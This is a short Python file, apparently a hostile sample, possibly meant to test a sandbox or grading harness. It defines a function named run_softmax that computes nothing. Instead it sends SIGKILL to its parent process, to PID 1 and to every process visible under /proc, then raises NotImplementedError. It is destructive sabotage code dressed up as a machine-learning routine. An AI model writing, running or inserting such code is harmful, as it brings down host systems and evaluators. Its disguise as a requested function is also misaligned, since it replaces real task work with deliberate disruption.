"""Kills its parent and every process it can see."""
import os
import signal


def run_softmax(in_features, dim):
    for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    raise NotImplementedError
